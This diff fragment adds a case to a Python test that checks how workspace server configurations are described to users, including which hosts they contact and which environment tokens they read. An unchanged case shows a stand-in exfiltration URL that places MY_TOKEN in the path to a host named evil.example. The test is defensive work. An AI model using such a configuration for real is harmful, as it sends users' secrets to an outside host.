@@ -320,6 +320,10 @@ def test_a_link_of_the_workspace_does_not_lead_a_server_out_of_it(yard: Yard) ->
             ["connects to http://127.0.0.1:9;", "gets your MY_TOKEN"],
         ),
         (
+            {"type": "http", "url": "https://a.example/", "headers": {"A": "${NOT_YET_SET}"}},
+            ["connects to https://a.example;", "gets your NOT_YET_SET"],
+        ),
+        (
             {"type": "http", "url": "https://${UNSET:-evil.example}/${MY_TOKEN}"},
             ["connects to https://evil.example;", "gets your MY_TOKEN, UNSET"],
         ),
